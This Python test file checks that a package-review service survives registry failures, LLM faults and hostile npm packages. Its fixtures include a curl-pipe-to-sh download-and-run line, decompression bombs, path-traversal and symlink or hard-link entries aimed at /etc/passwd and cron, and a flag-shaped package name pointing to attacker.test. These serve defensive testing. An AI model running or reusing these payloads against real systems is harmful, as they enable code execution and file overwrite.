"""Reviews with a failing registry, a failing LLM and hostile packages: no job is lost.

A real registry serves no such packages. This one runs in the test's process, on the engine's
bridge.
"""

from __future__ import annotations

import gzip
import json
import tarfile
import threading
import time
from collections.abc import Callable, Iterator, Sequence
from pathlib import Path
from typing import Any

import pytest

from tests.support import llm_server, npm_registry
from tests.support.commands import docker
from tests.support.npm_registry import (
    MANIFEST,
    Files,
    Handler,
    Registry,
    Reply,
    gzipped_tar,
    tar_member,
)
from tests.support.review_stack import ReviewStack, running_stack

JOBS = 50
KEY = "sk-never-to-be-seen"
PLAIN = {"index.js": b"module.exports = 1;\n"}
CHANGED = {"index.js": b"module.exports = 2;\n"}
MALICIOUS = {"steal.js": b"require('child_process').execSync('curl http://198.51.100.7/x | sh');\n"}


@pytest.fixture(scope="module")
def bridge() -> str:
    """Return this host's address on the engine's default bridge."""
    configuration = json.loads(docker("network", "inspect", "bridge"))[0]["IPAM"]["Config"]
    return str(configuration[0]["Gateway"])


@pytest.fixture(scope="module")
def registry(bridge) -> Iterator[Registry]:
    with npm_registry.serving(host=bridge) as server:
        yield server


@pytest.fixture(scope="module")
def stack(contract, engine, built, registry, bridge, project_name) -> Iterator[ReviewStack]:
    with llm_server.serving(_reply, host=bridge) as provider:
        variables = {
            "ARTIFACTORY_URL": registry.address,
            "LLM_PROVIDER": "openai",
            "LLM_MODEL": "m",
            "LLM_API_KEY": KEY,
            "LLM_BASE_URL": f"http://{bridge}:{provider.port}/v1",
        }
        with running_stack(contract, engine, f"{project_name}-faults", **variables) as running:
            yield running


# --- the LLM server: the package's name selects its reply


def _reply(handler: llm_server.Handler) -> None:
    request = json.dumps(handler.request_body)
    names = [name for name in REPLIES if f"about-{name}" in request]
    REPLIES[names[0] if names else "calm"](handler)


def _unreliable(handler: llm_server.Handler) -> None:
    """Disconnect for half of the jobs, which try twice; send invalid replies to the others."""
    invalid = (
        llm_server.make_chat_reply("I am sorry"),
        llm_server.make_opinion_reply(risk=-1),
        llm_server.make_chat_reply('{"risk": "none"}'),
        llm_server.make_raw_reply(b'{"choices": [{"mess'),
        llm_server.make_opinion_reply(summary=""),
    )
    count = sum("about-unreliable" in json.dumps(r) for r in handler.provider.bodies)
    reply = llm_server.disconnect if count <= JOBS else invalid[count % len(invalid)]
    reply(handler)


REPLIES: dict[str, llm_server.Reply] = {
    "calm": llm_server.make_opinion_reply(risk=0.0),
    "unreliable": _unreliable,
    "slow": llm_server.slow_body,
    "grave": llm_server.make_opinion_reply(risk=1.0),
}


def _publish(registry: Registry, package: str, files: npm_registry.Files = CHANGED) -> str:
    """Publish two versions; return the path of the new one's tarball."""
    registry.publish("1.0.0", PLAIN, package=package)
    return registry.publish("1.1.0", files, package=package)


def _submit(stack: ReviewStack, package: str, jobs: int = 1) -> list[str]:
    return [stack.submit(package, "1.0.0", "1.1.0", force=True) for _ in range(jobs)]


# --- the registry


def _first(faults: Sequence[Reply], requests: int, then: Reply) -> Reply:
    """Return a reply: each fault for so many requests, and `then` afterwards."""
    pending, lock = [fault for fault in faults for _ in range(requests)], threading.Lock()

    def reply(handler: Handler) -> None:
        with lock:
            next_reply = pending.pop(0) if pending else then
        next_reply(handler)

    return reply


def _cut(handler: Handler) -> None:
    """Send less than the announced length."""
    handler.send_response(200)
    handler.send_header("content-length", "100000")
    handler.end_headers()
    handler.wfile.write(b"\x1f\x8b" * 100)


def _slowly(body: bytes) -> Reply:
    """Return a reply that sends the body in small pieces, in about a second."""

    def reply(handler: Handler) -> None:
        handler.send_response(200)
        handler.send_header("content-length", str(len(body)))
        handler.end_headers()
        for start in range(0, len(body), 20):
            handler.wfile.write(body[start : start + 20])
            handler.wfile.flush()
            time.sleep(20 / len(body))  # this is the fault, not a wait

    return reply


def test_temporary_failures_are_retried_and_no_job_is_lost(stack, registry):
    """The registry fails, cuts off and is slow; the LLM disconnects or sends invalid replies."""
    path = _publish(registry, "about-unreliable")
    faults, slow = (npm_registry.make_reply(500), _cut), _slowly(npm_registry.npm_tarball(CHANGED))
    registry.replies[path] = _first(faults, JOBS // 4, slow)
    reviews = stack.wait_for_reviews(_submit(stack, "about-unreliable", JOBS))
    assert [review["status"] for review in reviews] == ["done"] * JOBS
    # A fault costs an attempt; a slow reply does not.
    assert sum(review["attempts"] - 1 for review in reviews) == JOBS // 4 * len(faults)
    assert {review["result"]["summary_missing"] for review in reviews} == {
        "the provider cannot be reached",
        "the answer is not of the agreed shape",
    }
    assert {review["result"]["verdict"] for review in reviews} == {"pass"}


def test_wrong_checksum_fails_each_job_without_retry(stack, registry):
    _publish(registry, "forged")
    registry.replies["/forged/-/1.1.0.tgz"] = npm_registry.make_reply(
        200, npm_registry.npm_tarball(MALICIOUS)
    )
    reviews = stack.wait_for_reviews(_submit(stack, "forged", JOBS))
    assert {review["failure"]["code"] for review in reviews} == {"integrity"}
    assert {(review["attempts"], review["dead_letter"]) for review in reviews} == {(1, False)}


# --- the LLM


def test_llm_raises_the_risk_but_never_lowers_it(stack, registry):
    _publish(registry, "about-grave")
    _publish(registry, "about-calm", MALICIOUS)
    raised, unchanged = stack.wait_for_reviews(
        _submit(stack, "about-grave") + _submit(stack, "about-calm")
    )
    assert (raised["result"]["verdict"], raised["result"]["risk"]) == ("block", 1.0)
    assert unchanged["result"]["verdict"] == "block"
    assert unchanged["result"]["summary"]


def test_endless_llm_answer_times_out_without_losing_the_review(stack, registry):
    """Three of the four workers wait; the fourth does another job meanwhile."""
    _publish(registry, "about-slow")
    _publish(registry, "meanwhile")
    waiting = _submit(stack, "about-slow", 3)
    (other,) = stack.wait_for_reviews(_submit(stack, "meanwhile"))
    assert other["status"] == "done"
    assert {stack.status(id_) for id_ in waiting} <= {"queued", "running"}
    reviews = stack.wait_for_reviews(waiting)
    assert {review["status"] for review in reviews} == {"done"}
    assert {r["result"]["summary_missing"] for r in reviews} == {"the provider took too long"}


# --- hostile packages


def _bomb() -> bytes:
    """Return a package of 4 GiB of zeros: 256 repetitions of one gzip member."""
    zeros = tarfile.TarInfo("package/zeros")
    zeros.size = 2**32
    manifest, content = tar_member("package.json", MANIFEST)
    head = manifest.tobuf() + content.ljust(512, b"\0") + zeros.tobuf()
    return gzip.compress(head) + gzip.compress(bytes(2**24)) * 256


def _million() -> bytes:
    """Return a package of a million empty files; names repeat only beyond the limit."""
    files = b"".join(tarfile.TarInfo(f"package/{n}").tobuf() for n in range(25_000))
    return gzip.compress(files, 1) * 40


def _folders() -> bytes:
    """Return a package of a million folders of the same name."""
    folder = tarfile.TarInfo("package/lib/")
    folder.type = tarfile.DIRTYPE
    return gzip.compress(folder.tobuf() * 1000) * 1000


def _wide(text: str) -> Callable[[], bytes]:
    """Return a package with one long line of multi-byte characters."""
    return lambda: npm_registry.npm_tarball({"a.js": text.encode() * 2_500_000})


def _entry(name: str, content: bytes = b"", **facts: Any) -> bytes:
    """Return a package with one more entry, whose name is written unchanged."""
    return gzipped_tar(
        [tar_member("package.json", MANIFEST), tar_member("", content, name=name, **facts)],
        tarfile.GNU_FORMAT,
    )


HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
    "gigabytes": (_bomb, "too_large"),
    "a-million-files": (_million, "too_large"),
    "a-million-folders": (_folders, "too_large"),
    "dots": (lambda: _entry("package/../../etc/cron.d/x"), "unsafe_path"),
    "absolute": (lambda: _entry("/etc/cron.d/x"), "unsafe_path"),
    "symlink": (lambda: _entry("package/a", type=tarfile.SYMTYPE, linkname="/"), "unsafe_entry"),
    "hard-link": (
        lambda: _entry("package/a", type=tarfile.LNKTYPE, linkname="/etc/passwd"),
        "unsafe_entry",
    ),
    "name-not-utf-8": (
        lambda: _entry(b"package/\xff.js".decode("utf-8", "surrogateescape")),
        "unsafe_path",
    ),
    "manifest-not-json": (
        lambda: gzipped_tar([tar_member("package.json", b"{'name': nothing")]),
        "bad_manifest",
    ),
    "one-line": (lambda: npm_registry.npm_tarball({"a.js": b"x" * 50_000_000}), "done"),
    "wide-characters": (_wide("€é"), "done"),
    "content-not-utf-8": (
        lambda: npm_registry.npm_tarball({"a.js": b"\xff\xfe(\x00\n" * 1000}),
        "done",
    ),
    "name-like-a-flag": (lambda: npm_registry.npm_tarball({"--registry=x": b"-rf\n"}), "done"),
}
BEFORE: dict[str, Callable[[], bytes | Files]] = {"wide-characters": _wide("é€")}


def test_hostile_packages_are_refused_and_the_worker_survives(stack, registry):
    for package, (make, _) in HOSTILE.items():
        before = BEFORE.get(package, lambda: PLAIN)
        registry.publish("1.0.0", before(), package=package)
        registry.publish("1.1.0", make(), package=package)
    _publish(registry, "good")
    ids = {package: _submit(stack, package)[0] for package in HOSTILE}
    reviews = {package: stack.wait_for_review(id_) for package, id_ in ids.items()}
    outcomes = {
        package: review["failure"]["code"] if review["failure"] else review["status"]
        for package, review in reviews.items()
    }
    assert outcomes == {package: outcome for package, (_, outcome) in HOSTILE.items()}
    assert not any(review["dead_letter"] for review in reviews.values())
    (good,) = stack.wait_for_reviews(_submit(stack, "good"))
    assert good["status"] == "done"


def test_package_named_like_a_flag_is_refused_by_the_api(stack):
    body = {"package": "--registry=http://attacker.test", "from": "1.0.0", "to": "1.1.0"}
    assert stack.request("POST", "/v1/reviews", json=body).status_code == 422


@pytest.fixture(scope="module", autouse=True)
def _workers_survived(stack) -> Iterator[None]:
    """Assert after all tests that no worker restarted, hit its memory limit or logged the key."""
    workers = stack.containers("worker")
    yield
    assert stack.containers("worker") == workers
    for container in stack.engine.inspect("container", workers):
        assert not container["State"]["OOMKilled"]
        assert container["RestartCount"] == 0
        assert _peak_memory(container["State"]["Pid"]) < container["HostConfig"]["Memory"]
        assert KEY not in docker("logs", container["Id"])


def _peak_memory(pid: int) -> int:
    """Return the peak memory of a process's cgroup (v2 or v1), in bytes."""
    for line in Path(f"/proc/{pid}/cgroup").read_text().splitlines():
        _, controllers, path = line.split(":", 2)
        for file in (
            Path("/sys/fs/cgroup", path.lstrip("/"), "memory.peak"),
            Path("/sys/fs/cgroup/memory", path.lstrip("/"), "memory.max_usage_in_bytes"),
        ):
            if file.exists() and controllers in ("", "memory"):
                return int(file.read_text())
    raise AssertionError("no cgroup file has the peak memory of the container")
